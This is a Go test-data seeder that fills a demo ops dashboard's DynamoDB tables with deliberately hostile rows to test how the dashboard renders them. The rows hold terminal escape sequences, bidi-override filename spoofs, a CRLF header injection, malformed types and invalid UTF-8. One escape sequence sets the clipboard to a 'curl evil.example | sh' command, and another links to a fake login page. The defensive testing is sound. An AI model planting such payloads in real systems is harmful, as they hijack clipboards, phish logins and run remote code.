package demo

import (
	"strings"
	"time"

	"opsdeck/data"
)

// Hostile rows: values a tenant controls can contain anything, and rows
// written by other tools can have the wrong shape. These live under clearly
// named tenants (HostileTenants) so they can be opened on purpose, except for
// one session in the busiest project and one event of the default Inbox user,
// which show up in the default views.
//
// What DynamoDB itself refuses, and so is not seeded (recorded in Notes):
//   - a wrong type or an empty string in any attribute that is a key of the
//     table or of a GSI ("Type mismatch for Index Key"), so e.g. expiresAt
//     (status-expiresAt-index) and allocated_at (three sandbox GSIs) are
//     always numbers; wrong types go on non-key attributes instead;
//   - invalid UTF-8 in an S value: the wire format is JSON and the SDK
//     replaces invalid bytes with U+FFFD before sending, so invalid UTF-8 is
//     seeded in B (binary) attributes, which can hold any bytes.

// Control sequences a renderer must never interpret.
const (
	escClear     = "\x1b[2J\x1b[H"                                      // clear screen, cursor home
	escAltScreen = "\x1b[?1049h"                                        // switch to the alternate screen
	escOSC52     = "\x1b]52;c;Y3VybCAtcyBldmlsLmV4YW1wbGUveCB8IHNo\x07" // set the clipboard to "curl -s evil.example/x | sh"
	escTitle     = "\x1b]0;root@prod-db: ~\x07"                         // set the window title
	escLink      = "\x1b]8;;https://evil.example/login\x07Open dashboard\x1b]8;;\x07"
	bidiOverride = "\u202e" // RIGHT-TO-LEFT OVERRIDE
	escRed       = "\x1b[31m"
	escReset     = "\x1b[0m"
)

// invalidUTF8 is bytes that are not UTF-8 (a lone continuation byte, 0xff,
// a truncated sequence) around an escape sequence.
var invalidUTF8 = []byte{'o', 'k', ' ', 0xff, 0xfe, 0x1b, '[', '2', 'J', 0xc3, 0x28, ' ', 0x80, 'e', 'n', 'd'}

var hostile = HostileTenants{
	Project:   "proj-hostile",
	GraphUser: "user-hostile",
	EventUser: "user-hostile",
	Audience:  "did:web:hostile.example",
	Customer:  "did:mailto:hostile.example:mallory",
	Track:     "track-hostile",
}

func seedHostile(g *gen, w *world) {
	w.report.Hostile = hostile
	w.note("DynamoDB rejects wrong types and empty strings in table and GSI key attributes, so malformed types are seeded only in non-key attributes")
	w.note("S values must be valid UTF-8 (the SDK replaces invalid bytes with U+FFFD), so invalid UTF-8 is seeded in B attributes")
	hostileSessions(g, w)
	hostileRuns(g, w)
	hostileEvents(g, w)
	hostileW3infra(g, w)
	hostileSandboxes(g, w)
}

func hostileSessions(g *gen, w *world) {
	hp := wcProject{ID: hostile.Project, Timeout: time.Hour}
	w.add(data.TableProjects, "ACTIVE", Item{
		"projectId":      avS(hostile.Project),
		"name":           avS(escRed + "Evil" + escReset + " Corp " + bidiOverride + "txt.exe"),
		"concurrency":    avS("10"), // wrong type: N expected
		"status":         avS("ACTIVE"),
		"createdAt":      avS(iso(g.ago(40 * 24 * time.Hour))),
		"x-shadow-admin": avBool(true), // unknown attribute
		"defaultTimeout": avS("1h"),    // wrong type: N expected
		"ownerId":        avS("org_" + escTitle),
		"billingTier":    avS(""), // empty string (allowed: not a key)
		"updatedAt":      avS("yesterday"),
	})

	// In the default view: an ordinary-looking session of the busiest
	// project whose client-supplied metadata carries control sequences.
	s := planSession(g, wcProjects[0], "ACTIVE", nil)
	it := s.item()
	// A keep-alive session with a long timeout, so it stays in view for
	// hours even where TTL is enforced.
	it["keepAlive"] = avBool(true)
	it["expiresAt"] = avN(s.created.Add(20 * time.Hour).Unix())
	it["userMetadata"] = avM(Item{
		"team":     avS("pricing"),
		"retailer": avS("ikea.com" + bidiOverride + "moc.live"),
		"note":     avS(escClear + "invoice ready"),
		"job":      avS("sku-crawl-0042" + escOSC52),
	})
	w.add(data.TableSessions, "ACTIVE", it)

	// The hostile project's own sessions.
	add := func(state string, mutate func(Item)) {
		s := planSession(g, hp, state, nil)
		it := s.item()
		// Keep them around for most of a day even where TTL is enforced.
		it["expiresAt"] = avN(g.now.Add(20 * time.Hour).Unix())
		mutate(it)
		state = strAttr(it, "internalStatus")
		if state == "" {
			state = "(missing)"
		}
		w.add(data.TableSessions, state, it)
	}
	add("READY", func(it Item) {
		it["sessionId"] = avS("sess_hostile_escapes")
		it["connectUrl"] = avS("wss://203.0.113.66:9223/cdp?signingKey=" + escOSC52 + "eyJhbGciOiJIUzI1NiJ9.e30.sig")
		it["region"] = avS("us-east-1\r\nX-Injected: 1")
		it["userMetadata"] = avM(Item{
			"note":  avS(escClear + escAltScreen + "screen wiped"),
			"link":  avS(escLink),
			"title": avS(escTitle),
			"nul":   avS("before\x00after"),
			"bell":  avS(strings.Repeat("\a", 5)),
		})
	})
	add("STOPPED", func(it Item) {
		it["sessionId"] = avS("sess_" + bidiOverride + "gnp.exe")
	})
	add("STOPPED", func(it Item) {
		it["sessionId"] = avS("sess_" + escClear + "key")
	})
	add("STOPPED", func(it Item) {
		it["sessionId"] = avS("sess_hostile_types")
		it["proxyBytes"] = avS("lots")                         // N expected
		it["keepAlive"] = avS("true")                          // BOOL expected
		it["retryCount"] = avS("2")                            // N expected
		it["eventHistory"] = avM(Item{"0": avS("not a list")}) // L expected
		it["userMetadata"] = avS(`{"json":"as a string"}`)     // M expected
		it["startedAt"] = avBool(false)                        // S expected
		it["updatedAt"] = avN(g.now.Unix())                    // the container's numeric form
	})
	add("FAILED", func(it Item) {
		it["sessionId"] = avS("sess_hostile_missing")
		for _, a := range []string{"internalStatus", "signingKey", "region", "updatedAt", "eventHistory", "lastEventTimestamp"} {
			delete(it, a)
		}
	})
	add("ACTIVE", func(it Item) {
		it["sessionId"] = avS("sess_hostile_unknown")
		it["debugDump"] = avS(strings.Repeat("GET /json/version 200 OK; ", 320)) // ~8 KB
		it["x_internal"] = avM(Item{"shard": avN(7), "flags": avSL("canary", "no-ttl")})
		it["rawHeaders"] = avB(invalidUTF8)
		it["userMetadata"] = avM(nested(25))
	})
	add("STOPPED", func(it Item) {
		it["sessionId"] = avS("sess_hostile_status")
		it["status"] = avS("ZOMBIE")
		it["internalStatus"] = avS("UNDEAD")
	})
}

// nested builds a map depth levels deep.
func nested(depth int) Item {
	m := Item{"leaf": avS("bottom")}
	for i := depth - 1; i > 0; i-- {
		m = Item{"level": avN(int64(i)), "next": avM(m)}
	}
	return m
}

func hostileRuns(g *gen, w *world) {
	user := hostile.GraphUser
	created := g.ago(3 * time.Hour)
	it := graphRunItem(g, user, "h0st1e", "prod", "COMPLETE", created, created.Add(time.Minute))
	it["nodeCount"] = avS("42")               // N expected
	it["status"] = avS("COMPLETE" + escClear) // control sequence in a status
	it["graphS3Key"] = avS("graphs/prod/" + bidiOverride + "nosj.hparg")
	w.add(data.TableGraphRuns, "malformed", it)

	w.add(data.TableGraphRuns, "", Item{
		// No runId, no status, no GSI1 keys, a sort key that is not RUN#<ts>#<id>.
		"PK":          avS("USER#" + user),
		"SK":          avS("RUN#not-a-timestamp#zzz"),
		"environment": avS("staging"),
		"createdAt":   avS("2026-13-45T99:99:99Z"),
	})

	created = g.ago(50 * time.Minute)
	it = graphRunItem(g, user, "b1nary", "dev", "FAILED", created, created.Add(2*time.Minute))
	it["status"] = avS("EXPLODED") // unknown status
	it["iacSnippet"] = avB(invalidUTF8)
	it["updatedAt"] = avN(created.Unix()) // S expected
	it["graph"] = avL(avM(nested(12)), avS(escOSC52))
	w.add(data.TableGraphRuns, "EXPLODED", it)
}

func hostileEvents(g *gen, w *world) {
	// In the default Inbox view: a payload a tenant posted, full of control
	// sequences. Everything else about the event is normal.
	def := eventUsers[0]
	it := eventItem(g, def, "order.completed", "failed", g.ago(25*time.Minute), 1)
	it["payload"] = avM(Item{
		"order_id": avS("ord_" + escOSC52 + "553011"),
		"customer": avS(bidiOverride + "eciloA"),
		"note":     avS(escClear + "Thank you for your order!"),
	})
	w.add(data.TableEvents, "failed", it)

	u := eventUser{ID: hostile.EventUser, Source: "198.51.100.66"}
	add := func(state string, t time.Time, retries int, mutate func(Item)) {
		it := eventItem(g, u, "payment.failed", state, t, retries)
		mutate(it)
		w.add(data.TableEvents, state, it)
	}
	add("failed", g.ago(2*time.Hour), 3, func(it Item) {
		it["retry_count"] = avS("3") // N expected
	})
	add("failed", g.ago(90*time.Minute), 0, func(it Item) {
		it["ttl"] = avS("never") // N expected (TTL ignores it)
		it["payload"] = avS(`{"amount": 12.5}`)
	})
	add("failed", g.ago(80*time.Minute), 1, func(it Item) {
		// A writer that changed status but not the StatusIndex key.
		ts := strAttr(it, "timestamp")
		it["status#timestamp"] = avS("delivered#" + ts)
	})
	add("received", g.ago(70*time.Minute), 0, func(it Item) {
		delete(it, "status#timestamp")
		delete(it, "event_type")
		delete(it, "payload")
	})
	add("delivered", g.ago(60*time.Minute), 0, func(it Item) {
		ts := strAttr(it, "timestamp")
		it["event_type"] = avS("user.created" + escClear)
		it["event_type#timestamp"] = avS("user.created" + escClear + "#" + ts)
		it["payload"] = avM(Item{"name": avS(escTitle + "Mallory"), "blob": avB(invalidUTF8), "deep": avM(nested(30))})
		it["x-forwarded-for"] = avS("10.0.0.1, " + escOSC52) // unknown attribute
	})
}

func hostileW3infra(g *gen, w *world) {
	inserted := g.ago(10 * 24 * time.Hour)
	d := delegationItem(g, hostile.Audience, g.didKey(), inserted, g.now.Add(24*time.Hour))
	d["expiration"] = avS("never") // N expected
	w.add(data.TableDelegations, "malformed", d)

	d = delegationItem(g, hostile.Audience, g.didKey(), inserted, g.ago(time.Hour))
	d["link"] = avS("bafy" + escClear + "evil")
	delete(d, "issuer")
	d["proofs"] = avL(avS(g.cid()), avS(escOSC52)) // unknown attribute
	w.add(data.TableDelegations, "expired", d)

	d = delegationItem(g, hostile.Audience, "did:key:z6Mk"+bidiOverride+"evil", inserted, g.now.Add(48*time.Hour))
	delete(d, "expiration")
	w.add(data.TableDelegations, "no-expiration", d)

	at := jsISO(g.ago(5 * 24 * time.Hour))
	w.add(data.TableSubscriptions, "", Item{
		"subscription": avS(g.cid()),
		"provider":     avS(providerWeb3),
		"cause":        avN(42), // S expected
		"customer":     avS(hostile.Customer),
		"insertedAt":   avS(at),
		"updatedAt":    avB(invalidUTF8),
	})
	w.add(data.TableConsumers, "", Item{
		"subscription": avS(g.cid()),
		"provider":     avS(providerWeb3),
		"cause":        avS(g.cid()),
		"consumer":     avS("did:key:z6Mk" + bidiOverride + escClear + "space"),
		"insertedAt":   avS(at),
	})
}

func hostileSandboxes(g *gen, w *world) {
	it := sandboxItem(g, 900, sbxAllocated, hostile.Track, 4, 30*time.Minute)
	it["lab_duration_hours"] = avS("4h") // N expected
	it["name"] = avS(escOSC52 + "lab-sbx-900")
	delete(it, "deletion_retry_count")
	it["owner_email"] = avS("mallory@hostile.example") // unknown attribute
	w.add(data.TableSandboxes, sbxAllocated, it)

	it = sandboxItem(g, 901, sbxAllocated, hostile.Track, 2, time.Hour)
	it["status"] = avS("quarantined") // unknown status
	it["eng_payload"] = avB(invalidUTF8)
	it["external_id"] = avS("ext-" + bidiOverride + "999")
	w.add(data.TableSandboxes, "quarantined", it)
}
